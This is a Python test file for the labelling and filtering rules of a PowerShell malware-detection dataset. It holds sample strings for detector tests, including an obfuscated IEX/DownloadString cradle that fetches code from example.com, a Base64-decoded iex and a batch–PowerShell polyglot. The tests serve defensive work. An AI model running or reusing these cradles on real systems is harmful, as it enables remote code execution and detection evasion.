"""Rules for dropping, each with what it must leave alone, and shortcuts with known answers."""

import polars as pl
import pytest

from psembed.datasets import labels
from psembed.runtime.errors import CorpusError

LONG = "Get-Service | Out-Host"


def scripts(rows: list[dict]) -> pl.DataFrame:
    default = {
        "source": "a", "kind": "labelled", "stratum": "a", "repository_group": "", "family": "", "size": 10,
        "encoding": "ascii", "path": "x.ps1", "text": LONG, "clean": LONG, "part": "train",
    }  # fmt: skip
    numbered = ({"sha256": f"{n:064x}", "cluster": n, "group": n, **row} for n, row in enumerate(rows))
    table = [{**default, **row} for row in numbered]
    return pl.DataFrame(table, schema_overrides={"label": pl.Int8})


def dropped(*rows: dict) -> list[str]:
    """Return the reasons of a corpus of the rows; one clean script is added, and one malicious one."""
    return labels.audit(scripts([*rows, {"label": 0}, {"label": 1}]))["dropped"].to_list()[: len(rows)]


def test_every_rule_drops_what_it_names_and_nothing_else():
    audited = labels.audit(scripts([
        {"label": 1},
        {"label": 0},
        {"label": 0, "clean": ""},
        {"label": 0, "part": "aside"},
        {"label": 1, "cluster": 50},
        {"label": 0, "cluster": 50},
        {"label": 0, "cluster": 60},
        {"label": None, "kind": "offensive", "cluster": 60},
        {"label": 1, "cluster": 61},
        {"label": None, "kind": "offensive", "cluster": 61},
    ]))  # fmt: skip
    assert audited["dropped"].to_list() == [
        "", "", labels.DROP_EMPTY, labels.DROP_ASIDE, labels.DROP_CONFLICT, labels.DROP_CONFLICT,
        labels.DROP_OFFENSIVE, "",
    ]  # fmt: skip


def test_a_malicious_label_on_a_short_text_is_dropped():
    short, enough = "x" * (labels.SHORTEST - 1), "x" * labels.SHORTEST
    rows = [
        {"label": label, "clean": clean, "text": 2 * enough} for clean in (short, enough) for label in (1, 0)
    ]
    assert dropped(*rows) == [labels.DROP_SHORT, "", "", ""]


@pytest.mark.parametrize(
    ("number", "goes"),
    [(4206, False), (4207, True), (4209, True), (4210, True), (4289, True), (4290, True), (4291, False)],
)
def test_of_mpsds_clean_half_the_framework_is_dropped(number, goes):
    path = f"data/powershell_benign_dataset/{number}.ps1"
    other = f"data/malicious_pure/{number}.ps1"
    rows = [
        {"label": 0, "source": source, "path": name} for source in ("mpsd", "a") for name in (path, other)
    ]
    assert dropped(*rows) == [labels.DROP_FRAMEWORK * goes, "", "", ""]


OTHER_LANGUAGES = {
    "batch": "@echo off\r\npowershell -nop -w hidden -c Get-Date",
    "batch, in upper case": "@ECHO OFF\nset a=1\ncalc.exe\n",
    "batch, without @": "echo off\nstart calc\n",
    "batch, a remark": "REM a job that runs at night\ncalc.exe\n",
    "batch, a label": ":: a job that runs at night\ncalc.exe\n",
    "batch, local": "setlocal enabledelayedexpansion\ncalc.exe\n",
    "batch, after a byte-order mark": "\ufeff\r\n@echo off\r\ncalc.exe /a\n",
    "batch, in brackets": "&(@echo off) & calc.exe /a\n",
    "HTA": "<html><head><script language='VBScript'>Close</script></head></html>",
    "HTA, its own element": " <HTA:APPLICATION ID='a' />\n<script>Close</script>",
    "HTML": "<!DOCTYPE html>\n<html></html>",
    "XML": "<?xml version='1.0'?>\n<a>Get-Date and more</a>",
    "VBScript": 'Option Explicit\nDim shell\nSet shell = CreateObject("WScript.Shell")\n',
    "VBScript, an error": "On Error Resume Next\nx = 1 + 1 + 1 + 1\n",
    "VBScript, after remarks": "' a remark\n' and another\nDim shell, other\n",
    "VBScript, an object": 'Set shell = CreateObject("WScript.Shell")\n',
    "VBScript, a procedure": 'Sub AutoOpen()\n  Shell "calc"\nEnd Sub\n',
    "JScript": "var shell = new ActiveXObject('WScript.Shell'); shell.Run('calc');",
    "JScript, a function": "function run() { return WScript.CreateObject('a'); }",
    "a program": "MZ\u0090 This program cannot be run in DOS mode",
    "an archive": "PK\x03\x04 word/document.xml and more",
    "RTF": "{\\rtf1\\ansi Get-Date and more}",
    "PDF": "%PDF-1.4 Get-Date and more of it",
}
POWERSHELL = {
    "a batch file as a string": "$job = '@echo off'\nSet-Content run.bat $job\n",
    "echo": "echo 'off we go, and more'",
    "words that begin alike": "removeAll 'rem'; remote-thing -x\n",
    "a remark of PowerShell": "# rem: @echo off is batch, <html> is not\nGet-Service | Out-Host",
    "a static call": "[Math]::Max(1, 2) | Out-Host\n",
    "a comment block": "<# .SYNOPSIS <html> #>\nGet-Service | Out-Host\n",
    "HTML in a string": "$page = '<html><script>'; Set-Content a.html $page\n",
    "HTML in a here-string": "@'\n<html>\n'@ | Set-Content a.html\n",
    "an object": "$shell = New-Object -ComObject WScript.Shell; $shell.Popup('x')\n",
    "a function that makes one": "function popup() { (New-Object -ComObject WScript.Shell).Popup('x') }",
    "a banner": "# :: a tool :: rem ::\nGet-Service | Out-Host",
    "a remark of one word": "# REM is what batch files have\nGet-Service | Out-Host",
    "a string that is handed on": "'@echo off', 'calc' | Set-Content a.bat\n",
    "both in one file": "<# :\n@echo off\npowershell -c \"iex (gc '%~f0' -raw)\" #>\nGet-Date\n",
    "set with a variable": "set shell 'CreateObject'; Get-Variable shell\n",
    "VBScript in a string": "$vbs = 'On Error Resume Next'\n$vbs | Set-Content a.vbs\n",
    "MZ in a check": "if ($bytes[0..1] -join '' -eq 'MZ') { 'a program' }\n",
    "Base64 of a program": "$x = 'TVqQAAMAAAAEAAAA'; $x.Length | Out-Host\n",
}


@pytest.mark.parametrize("text", OTHER_LANGUAGES.values(), ids=OTHER_LANGUAGES)
def test_another_language_is_dropped_with_a_malicious_label_only(text):
    rows = [{"label": label, "text": text, "clean": text} for label in (1, 0)]
    assert dropped(*rows) == [labels.DROP_LANGUAGE, ""]


@pytest.mark.parametrize("text", POWERSHELL.values(), ids=POWERSHELL)
def test_powershell_that_holds_such_words_is_kept(text):
    assert dropped({"label": 1, "text": text, "clean": text}) == [""]


def test_what_is_aside_is_told_whatever_else_applies():
    text = OTHER_LANGUAGES["batch"]
    assert dropped({"label": 1, "text": text, "clean": "x", "part": "aside"}) == [labels.DROP_ASIDE]


@pytest.mark.parametrize("known", [[0, 0], [1], [None]])
def test_one_class_is_refused(known):
    with pytest.raises(CorpusError, match="two are needed"):
        labels.audit(scripts([{"label": label} for label in known]))


def test_overlap_counts_shared_clusters_once():
    table = scripts([
        {"label": 1, "stratum": "a", "cluster": 1}, {"label": 1, "stratum": "a", "cluster": 1},
        {"label": 1, "stratum": "b", "cluster": 1}, {"label": 1, "stratum": "b", "cluster": 2},
    ])  # fmt: skip
    assert labels.overlap(table).rows() == [("a malicious", "b malicious", 1, 2, 1)]


def test_one_line_rule_has_its_known_accuracy():
    table = scripts([
        {"label": 1, "text": "iex $x\r\n"}, {"label": 1, "text": "a\nb"},
        {"label": 0, "text": "a\r\nb"}, {"label": 0, "text": "a\nb\nc"}, {"label": 0, "text": "a\nb\nc"},
        {"label": None, "text": "a"},
    ])  # fmt: skip
    rules = labels.shortcuts(table)
    assert rules["all"] == rules["a"]
    assert rules["all"][0] == {
        "feature": "one_line", "rule": "one_line", "accuracy": 0.8, "balanced_accuracy": 0.75,
        "tpr": 0.5, "fpr": 0.0, "n": 5,
    }  # fmt: skip


def test_a_shortcut_is_turned_to_the_side_that_is_right():
    rule = labels.shortcuts(scripts([{"label": 1, "text": "a\nb"}, {"label": 0, "text": "a"}]))["all"][0]
    assert (rule["rule"], rule["accuracy"]) == ("not one_line", 1.0)


def test_listed_scripts_are_dropped_for_their_reason_and_others_stay_as_they_were():
    audited = labels.audit(scripts([{"label": 1}, {"label": 0}, {"label": 0, "clean": ""}]))
    listed = pl.DataFrame({"sha256": [f"{1:064x}"], "reason": ["a written rule"], "extra": [1]})
    marked = labels.drop(audited, listed)
    assert marked["dropped"].to_list() == ["", "a written rule", labels.DROP_EMPTY]
    assert marked.columns == audited.columns


def test_kinds_tell_the_three_hard_scripts_and_leave_plain_ones():
    texts = pl.Series([
        "&('{2}{0}{1}' -f 'b','c','a') 'hello'",
        "$c=New-Object Net.WebClient;IEX $c.('Downl'+'oadStr'+'ing').Invoke('http://example.com/a')",
        "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aGk=')))",
        "Get-Service | Export-Csv services.csv",
    ])  # fmt: skip
    kinds = labels.hard_kinds(texts)
    assert kinds["C22"].tolist() == [True, False, False, False]
    assert kinds["C23"].tolist() == [False, True, False, False]
    assert kinds["C24"].tolist() == [False, False, True, False]


def test_every_dropped_script_is_listed_with_its_reason():
    rows = {"sha256": ["b", "a", "c"], "source": "s", "label": [1, 1, 0], "dropped": ["why", "why", ""]}
    assert labels.listed(pl.DataFrame(rows))["sha256"].to_list() == ["a", "b"]


def test_copies_count_what_is_different_in_a_set():
    files = {
        "source": ["s"] * 4 + ["t"], "kind": ["labelled"] * 4 + ["benign"], "label": [1, 1, 1, 0, 0],
        "normalised": [7, 7, 8, 9, 9], "cluster": [1, 1, 1, 2, 2],
    }  # fmt: skip
    counts = labels.copies(pl.DataFrame(files)).to_dicts()
    assert counts[1] == {"source": "s", "label": 1, "files": 3, "distinct": 2, "clusters": 1, "largest": 3}
    assert len(counts) == 2
